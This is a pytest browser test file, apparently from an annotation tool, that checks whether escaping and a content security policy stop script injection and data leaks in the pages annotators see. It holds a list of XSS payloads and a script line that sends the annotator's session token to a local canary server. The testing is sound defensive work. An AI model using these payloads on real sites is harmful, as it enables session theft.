"""Scripts in records do not run, nothing leaves the page, and text is shown as it was written: in a real browser, with a canary.

Two walls hold the scripts back: escaping, when a task is made, and the content security policy, when it is shown. Each is tried alone. With
neither, the canary is reached: what is tried here does work.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from annotators_page import AnnotatorsPage
from playwright.sync_api import Browser, Page

from annotation.argilla import ArgillaBackend
from annotation.backend import Sheet
from annotation.escape import shown_message, shown_text
from annotation.server.embedded import RunningServer
from annotation.server.reachable import ask, client_of
from annotation.server.users import Credentials, administration
from annotation.tasks import ShownTask
from rlhf.records import Message, Prompt

SETTLED = 1000
"""Milliseconds that a page gets to do its worst."""
LONGEST_WAIT = 20_000
"""Milliseconds until what must happen is taken not to happen."""
CLICK_SCRIPTS = """() => {
    const click = page => {
        page.querySelectorAll("a[href^='javascript:']").forEach(link => link.click());
        page.querySelectorAll("iframe").forEach(frame => { if (frame.contentDocument) click(frame.contentDocument) });
    };
    click(document);
}"""
"""Also in frames, as far as they are of the page's origin."""
HTML = {    # name -> what is written, with @ for the canary's address and SCRIPT for a script that tells it the annotator's session
    "document": "<html><head><script>SCRIPT</script></head><body><h1>Hello</h1></body></html>",
    "image": '<img src="nothing" onerror="SCRIPT">',
    "svg": '<svg onload="SCRIPT"></svg>',
    "svg-script": "<svg><script>SCRIPT</script></svg>",
    "link": '<a href="javascript:SCRIPT">click</a>',
    "markdown-link": "[click](javascript:SCRIPT)",
    "frame": '<iframe srcdoc="<script>SCRIPT</script>"></iframe>',
    "frame-script": '<iframe src="javascript:SCRIPT"></iframe>',
    "frame-data": '<iframe src="data:text/html,<script>SCRIPT</script>"></iframe>',
    "details": '<details open ontoggle="SCRIPT"><summary>x</summary></details>',
    "focus": '<input autofocus onfocus="SCRIPT">',
    "video": '<video><source onerror="SCRIPT"></video>',
    "math": '<math><mtext><table><mglyph><style><img src=x onerror="SCRIPT"></style></mglyph></table></mtext></math>',
    "fenced": "```html\n<img src=x onerror=\"SCRIPT\">\n```",
    "fetched-image": '<img src="@/NAME">',
    "markdown-image": "![x](@/NAME)",
    "fetched-frame": '<iframe src="@/NAME"></iframe>',
    "fetched-object": '<object data="@/NAME"></object><embed src="@/NAME">',
    "fetched-style": '<style>@import "@/NAME"; p { background: url("@/NAME") }</style><p>x</p>',
    "fetched-sheet": '<link rel="stylesheet" href="@/NAME"><p>x</p>',
    "prefetched": '<link rel="prefetch" href="@/NAME"><p>x</p>',
    "background": '<div style="background: url(@/NAME)">x</div>',
    "svg-image": '<svg><image href="@/NAME"/><use href="@/NAME#x"/></svg>',
    "form": '<form action="@/NAME"><input name="password"></form><p>x</p>',
    "base": '<base href="@/NAME/"><p><img src="x"></p>',
    "refresh": '<meta http-equiv="refresh" content="0;url=@/NAME"><p>x</p>',
}
SURELY = {    # of each kind of field: what must reach the canary when both walls are down
    "plain": {"document", "image", "svg", "svg-script", "frame", "fetched-image", "fetched-style"},
    "chat": {"image", "frame", "fetched-image", "background"},
    "markdown": {"fetched-image", "markdown-image"},         # the page cleans markdown of scripts by itself
    "chat-markdown": {"fetched-image", "markdown-image"},
}


@dataclass(frozen=True)
class Canary:
    """A server somewhere else. Whatever it is asked for has left the page."""

    url: str
    heard: set[str] = field(default_factory=set)

    def written(self, name: str) -> str:
        script = f"new Image().src='{self.url}/{name}?'+localStorage.getItem('auth._token.local')"
        return HTML[name].replace("SCRIPT", script).replace("@/", f"{self.url}/").replace("NAME", name)


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    heard: set[str] = set()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.add(self.path.strip("/").split("?")[0].split("/")[0])
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            """Nothing on the terminal."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield Canary(f"http://127.0.0.1:{server.server_port}", heard)
        server.shutdown()


def make_dataset(server: RunningServer, name: str, fields: Mapping[str, Any], settings: dict[str, Any]) -> None:
    """One record, with a field for each text."""
    with client_of(server.connection) as owner:
        (workspace,) = [item["id"] for item in ask(owner, "GET", "/me/workspaces")["items"] if item["name"] == "preferences"]
        dataset = ask(owner, "POST", "/datasets", json={"name": f"canary-{name}", "workspace_id": workspace})["id"]
        for number, text in enumerate(fields, 1):
            ask(owner, "POST", f"/datasets/{dataset}/fields", json={
                "name": text, "title": text, "required": number == 1, "settings": settings})
        ask(owner, "POST", f"/datasets/{dataset}/questions", json={
            "name": "rank", "title": "Rank", "required": True,
            "settings": {"type": "ranking", "options": [{"value": f"response_{place}", "text": f"Response {place}"} for place in (1, 2)]}})
        ask(owner, "PUT", f"/datasets/{dataset}/publish")
        ask(owner, "POST", f"/datasets/{dataset}/records/bulk", json={"items": [{"fields": dict(fields)}]})


@pytest.fixture(scope="module")
def datasets(server: RunningServer, canary: Canary) -> None:
    """canary-KIND and canary-KIND-escaped: the same texts in each kind of field, as they are and as our tasks write them."""
    texts = {name: canary.written(name) for name in HTML}
    messages = [{"role": "user", "content": text} for text in texts.values()]
    for name, use_markdown in (("plain", False), ("markdown", True)):
        make_dataset(server, name, texts, {"type": "text", "use_markdown": use_markdown})
    for name, use_markdown in (("chat", False), ("chat-markdown", True)):
        make_dataset(server, name, {"conversation": messages}, {"type": "chat", "use_markdown": use_markdown})
    make_dataset(server, "plain-escaped", {name: shown_text(text) for name, text in texts.items()}, {"type": "text", "use_markdown": False})
    make_dataset(server, "chat-escaped", {"conversation": [shown_message("user", text) for text in texts.values()]},
                 {"type": "chat", "use_markdown": False})


@pytest.fixture(scope="module")
def annotator(server: RunningServer) -> Credentials:
    with administration(server.connection) as users:
        return users.add(["canary-keeper"])[0]


def look_at(browser: Browser, server: RunningServer, annotator: Credentials, dataset: str, *, policy: bool) -> tuple[Page, list[str]]:
    """A data set, with everything on it clicked that is a script; the page, and what it did besides being looked at."""
    page = browser.new_context(bypass_csp=not policy).new_page()
    noticed: list[str] = []
    page.on("dialog", lambda dialog: (noticed.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("popup", lambda popup: noticed.append(f"window {popup.url}"))
    annotators = AnnotatorsPage(page, server.connection.url)
    annotators.enter(annotator)
    annotators.open(dataset)
    page.wait_for_timeout(SETTLED)
    page.evaluate(CLICK_SCRIPTS)
    page.wait_for_timeout(SETTLED / 3)
    return page, noticed


@pytest.mark.parametrize("kind", SURELY)
def test_the_policy_alone_holds(
        chromium: Browser, server: RunningServer, annotator: Credentials, canary: Canary, datasets: None, kind: str) -> None:
    canary.heard.clear()
    page, noticed = look_at(chromium, server, annotator, f"canary-{kind}", policy=True)
    assert canary.heard == set()
    assert noticed == []
    assert page.url.startswith(f"{server.connection.url}/dataset/")
    page.context.close()


@pytest.mark.parametrize("kind", ["plain", "chat"])
def test_escaping_alone_holds(
        chromium: Browser, server: RunningServer, annotator: Credentials, canary: Canary, datasets: None, kind: str) -> None:
    canary.heard.clear()
    page, noticed = look_at(chromium, server, annotator, f"canary-{kind}-escaped", policy=False)
    assert canary.heard == set()
    assert noticed == []
    assert len(page.frames) == 1
    page.context.close()


@pytest.mark.parametrize("kind", SURELY)
def test_without_either_the_canary_is_reached(
        chromium: Browser, server: RunningServer, annotator: Credentials, canary: Canary, datasets: None, kind: str) -> None:
    canary.heard.clear()
    page, _ = look_at(chromium, server, annotator, f"canary-{kind}", policy=False)
    for _ in range(LONGEST_WAIT // SETTLED):    # on a busy machine the page takes its time
        if canary.heard >= SURELY[kind]:
            break
        page.wait_for_timeout(SETTLED)
    assert canary.heard >= SURELY[kind]
    page.context.close()


LITERAL = {
    "code": "def f(x):\n    if x < 1 and x > -1:\n\treturn '&amp;'  # a tab\n\n\n    return \"<div>\" + '</div>'\n",
    "html": "<!doctype html>\n<div class=\"a\">1 &lt; 2 &copy; &#65;</div>\n<script>alert(1)</script><!-- comment -->",
    "c": "#include <stdio.h>\nint main(void) { printf(\"%d\\n\", 1<<3 & 0xFF); }\n// a\\\n   continued",
    "markdown": "# no heading\n**not bold** _not italic_ `tick` [no](link) ~~~\n1. one\n\n\n* star\n    indented\n---\n$x^2$ \\(y\\) <br>",
    "spaces": "   leading   inner     and trailing   ",
    "unicode": "emoji 👩‍👩‍👧 e\u0301, separators \u2028 \u2029 \u0085, zero\u200bwidth, nbsp\u00a0, controls \u0001\u001b[31m",
    "bidi": "\u202eoverride\u202c שלום \u2067isolate\u2069 /* } \u2066if (admin)\u2069 */",
    "long": "x" * 5000 + " " + "<" * 300,
}


@pytest.fixture(scope="module")
def literal_tasks(server: RunningServer) -> None:
    backend = ArgillaBackend(server.connection)
    sheet = Sheet(name="literal", places=len(LITERAL), workspace="preferences", guidelines="Rank.", min_submitted=1)
    backend.ensure_sheet(sheet)
    messages = tuple(Message(role=role, content=f"{role}:\n{text}") for text in LITERAL.values()
                     for role in ("system", "user", "assistant", "tool"))
    added = backend.add(sheet, [ShownTask(id="literal", prompt=Prompt(messages=(*messages, Message(role="user", content="Well?"))),
                                          responses=tuple(LITERAL.values()))])
    assert added.refused == ()
    backend.close()


def test_text_is_shown_character_for_character(
        chromium: Browser, server: RunningServer, annotator: Credentials, literal_tasks: None) -> None:
    page, _ = look_at(chromium, server, annotator, "literal", policy=True)
    fields = page.locator("[id^=fields-content-]")
    for place, (name, text) in enumerate(LITERAL.items(), 1):
        content = fields.nth(place).locator("> div").first
        assert content.text_content() == text, name
        assert content.inner_text().rstrip("\n") == text.rstrip("\n"), name    # as it is laid out: white space is kept
    bubbles = page.locator(".chat__bubble > span")
    expected = [f"{role}:\n{text}" for text in LITERAL.values() for role in ("system", "user", "assistant", "tool")]
    assert bubbles.all_text_contents() == [*expected, "Well?"]
    assert [bubble.inner_text().rstrip("\n") for bubble in bubbles.all()[:-1]] == [text.rstrip("\n") for text in expected]
    assert page.locator(".chat__role").all_inner_texts() == [*("system", "user", "assistant", "tool") * len(LITERAL), "user"]
    assert [frame.url for frame in page.frames[1:]] == []
    page.context.close()


def test_the_page_asks_nobody_else_and_complains_of_nothing(chromium: Browser, server: RunningServer, annotator: Credentials,
                                                            literal_tasks: None) -> None:
    page = chromium.new_page()
    asked: list[str] = []
    complaints: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: complaints.append(str(error)))
    annotators = AnnotatorsPage(page, server.connection.url)
    annotators.enter(annotator)
    annotators.open("literal")
    annotators.rank_by_keyboard([1] * len(LITERAL))
    annotators.key("Control+s")
    page.goto(f"{server.connection.url}/user-settings")
    page.wait_for_load_state("networkidle")
    assert {url for url in asked if not url.startswith((f"{server.connection.url}/", "data:", "blob:"))} == set()
    assert complaints == []
    assert page.context.cookies() == []
    page.context.close()
